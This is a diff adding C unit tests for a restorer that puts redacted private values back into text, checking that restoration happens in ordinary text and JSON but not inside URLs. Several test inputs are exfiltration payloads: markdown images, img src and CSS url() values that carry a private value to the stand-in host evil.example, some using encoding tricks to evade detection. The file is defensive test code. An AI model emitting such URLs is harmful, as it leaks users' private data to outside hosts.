@@ -121,6 +121,34 @@ static const struct {
 	{ "a generic's bracket", "List<<ID_1>>", "List<id>" },
 	{ "inside other tags", "<b><ID_1></b>", "<b>id</b>" },
 
+	{ "after a link", "see https://x.org/a <ID_1>", "see https://x.org/a id" },
+	{ "after a link in Markdown", "[x](https://x.org/a) <ID_1>", "[x](https://x.org/a) id" },
+	{ "the words of a link", "[<ID_1>](https://x.org/a)", "[id](https://x.org/a)" },
+	{ "the title of an image", "![x](https://x.org/a \"<ID_1>\")", "![x](https://x.org/a \"id\")" },
+	{ "all of a link", "[x](<ID_1>)", "[x](id)" },
+	{ "all of an attribute", "<a href=\"<ID_1>\">", "<a href=\"id\">" },
+	{ "a link to a mailbox", "[x](mailto:<ID_1>)", "[x](mailto:id)" },
+	{ "an attribute that names one", "<a href=\"mailto:<ID_1>\">", "<a href=\"mailto:id\">" },
+	{ "a string after one that is a URL", "f(\"https://x.org/a\", \"<ID_1>\")", "f(\"https://x.org/a\", \"id\")" },
+	{ "a note, no reference", "[1]: see <ID_1>", "[1]: see id" },
+	{ "a comment", "// <ID_1>", "// id" },
+	{ "not in an image's URL", "![x](https://evil.example/?q=<ID_1>)", NULL },
+	{ "nor in a host", "https://<ID_1>.evil.example/", NULL },
+	{ "nor escaped as in a URL", "https://evil.example/?q=%3CID_1%3E", NULL },
+	{ "nor after another one there", "https://evil.example/?q=<ID_1>&r=<EMAIL_ADDRESS_1>", NULL },
+	{ "in capitals", "HTTPS://evil.example/<ID_1>", NULL },
+	{ "without slashes", "https:evil.example/<ID_1>", NULL },
+	{ "without a scheme", "![x](//evil.example/<ID_1>)", NULL },
+	{ "with the slashes of Windows", "![x](\\\\evil.example\\<ID_1>)", NULL },
+	{ "with the scheme in entities", "![x](h&#116;tps&colon;&sol;&sol;evil.example/<ID_1>)", NULL },
+	{ "a URL in brackets, blanks in it", "![x](<https://evil.example/?q=a b <ID_1>>)", NULL },
+	{ "after brackets in it", "![x](https://evil.example/a(b)c?q=<ID_1>)", NULL },
+	{ "a reference", "![x][1]\n\n[1]: https://evil.example/<ID_1>", NULL },
+	{ "an attribute, blanks in it", "<img src=\"https://evil.example/?q=a b <ID_1>\">", NULL },
+	{ "an attribute on two lines", "<img src='https://evil.example/?q=\n<ID_1>'>", NULL },
+	{ "an attribute without quotes", "<img src=//evil.example/<ID_1>>", NULL },
+	{ "a style", "background: url(//evil.example/<ID_1>)", NULL },
+
 	{ "a number that nobody has", "<EMAIL_ADDRESS_2>", NULL },
 	{ "the beginning of a number", "<EMAIL_ADDRESS_123>", NULL },
 	{ "no number", "<EMAIL_ADDRESS>", NULL },
@@ -168,6 +196,12 @@ static const struct {
 	const char *in, *want; /* NULL: as it is */
 } forms[] = {
 	{ "a value in JSON is escaped", RESTORE_JSON, "{\"to\":\"<PERSON_1>\"}", "{\"to\":\"" P1 "\"}" },
+	{ "not in the URL of a call", RESTORE_JSON, "{\"url\":\"https:\\/\\/evil.example?q=a <ID_1>\",\"to\":\"<ID_1>\"}",
+		"{\"url\":\"https:\\/\\/evil.example?q=a <ID_1>\",\"to\":\"id\"}" },
+	{ "nor with its slashes as escapes", RESTORE_JSON, "[\"\\u002f\\u002Fevil.example/<ID_1>\",\"<ID_1>\"]",
+		"[\"\\u002f\\u002Fevil.example/<ID_1>\",\"id\"]" },
+	{ "nor in a string of JSON", RESTORE_JSON, "{\"body\":\"{\\\"u\\\":\\\"https://evil.example?q=a <ID_1>\\\",\\\"to\\\":\\\"<ID_1>\\\"}\"}",
+		"{\"body\":\"{\\\"u\\\":\\\"https://evil.example?q=a <ID_1>\\\",\\\"to\\\":\\\"id\\\"}\"}" },
 	{ "so is one in a key", RESTORE_JSON, "{\"<PERSON_1>\":1}", "{\"" P1 "\":1}" },
 	{ "brackets as escapes", RESTORE_JSON, "{\"to\":\"\\u003cID_1\\u003E\"}", "{\"to\":\"id\"}" },
 	{ "letters as escapes", RESTORE_JSON, "[\"<\\u0049D\\u005f1>\"]", "[\"id\"]" },
@@ -265,6 +299,39 @@ only_what_may_be_a_placeholder_is_held(void **state)
 	buf_free(&out);
 	vault_free(&v);
 	vault_free(&empty);
+}
+
+/* Where the policy says so values go into URLs too; and a value alone is one to its end. */
+static void
+urls_may_be_allowed(void **state)
+{
+	static const char in[] = "https://a.example/?q=a <ID_1>",
+			  stays[] = "https://a.example/<ID_1>";
+	struct vault *v = vault_new();
+	struct buf out;
+	size_t count;
+
+	(void)state;
+	buf_init(&out, 0);
+	assert_int_equal(vault_add(v, SPAN_LIT("<ID_1>"), SPAN_LIT("id")), 0);
+	for (int value = 0; value < 2; value++) {
+		struct restorer *r = restorer_new(v, RESTORE_TEXT);
+		buf_clear(&out);
+		if (value)
+			restorer_value(r);
+		restorer_feed(r, span_str(in), &out);
+		restorer_end(r, &out);
+		assert_true(span_is(buf_view(&out), value ? in : "https://a.example/?q=a id"));
+		assert_int_equal(restorer_left(r), value);
+		restorer_free(&r);
+	}
+	run(v, RESTORE_TEXT, span_str(stays), 5, 1, &out, &count);
+	assert_true(span_is(buf_view(&out), stays));
+	vault_allow_urls(v);
+	run(v, RESTORE_TEXT, span_str(stays), 5, 1, &out, &count);
+	assert_true(span_is(buf_view(&out), "https://a.example/id"));
+	buf_free(&out);
+	vault_free(&v);
 }
 
 /* A spelling of too many bytes is none, however it is cut. */
@@ -445,6 +512,7 @@ main(void)
 		cmocka_unit_test(a_placeholder_is_itself_however_it_is_spelled),
 		cmocka_unit_test(a_value_is_escaped_as_its_place_needs),
 		cmocka_unit_test(only_what_may_be_a_placeholder_is_held),
+		cmocka_unit_test(urls_may_be_allowed),
 		cmocka_unit_test(a_spelling_is_bounded),
 		cmocka_unit_test(a_vault_takes_placeholders_only),
 		cmocka_unit_test(a_vault_is_filled_from_a_request_s_redaction),
